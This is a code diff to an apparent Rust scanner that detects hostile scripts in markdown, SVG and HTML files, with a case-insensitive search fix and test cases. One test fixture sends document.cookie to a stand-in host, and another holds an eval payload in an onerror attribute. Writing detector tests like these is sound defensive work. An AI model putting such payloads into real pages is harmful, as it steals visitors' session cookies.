@@ -36,8 +36,9 @@ pub fn page(name: &str, text: &str, view: &View<'_>, scope: &mut Scope<'_>) {
     match ending {
         "md" | "markdown" | "mdx" | "rmd" => document(text, view, scope),
         "svg" | "html" | "htm" => {
-            let Some(at) = text.find("<script").or_else(|| text.find("<SCRIPT")) else { return };
-            let Some(why) = hostile_script(&text[at..].to_ascii_lowercase()) else { return };
+            let lower = text.to_ascii_lowercase();
+            let Some(at) = lower.find("<script") else { return };
+            let Some(why) = hostile_script(&lower[at..]) else { return };
             if ending == "svg" || why.contains("decodes") {
                 let message = format!("it holds a script, and {why}");
                 lines::raise(Evidence::new(&CODE_IN_DATA, message), text, at..at + "<script".len(), view, scope);
@@ -100,8 +101,14 @@ fn without_examples(text: &str) -> String {
             _ => {}
         }
         let mut code = false;
+        // A quote that nothing closes is one of the letters.
+        let ticks = line.matches('`').count() / 2 * 2;
+        let mut seen = 0;
         for byte in line.chars() {
-            code ^= byte == '`';
+            if byte == '`' && seen < ticks {
+                seen += 1;
+                code = !code;
+            }
             if (example || code) && byte != '\n' {
                 (0..byte.len_utf8()).for_each(|_| plain.push(' '));
             } else {
@@ -133,5 +140,6 @@ mod tests {
         assert_eq!(worst("<script async src=\"https://a.example/chart.js\"></script>"), Some(Severity::Low));
         assert_eq!(worst("Use `<script>` and\n```html\n<img onerror=\"eval(name)\">\n```\n"), None);
         assert_eq!(worst("a < b, c onload=fetch(x)\n"), None);
+        assert_eq!(worst("` <script>new Image().src='//a.example/'+document.cookie</script>"), Some(Severity::High));
     }
 }
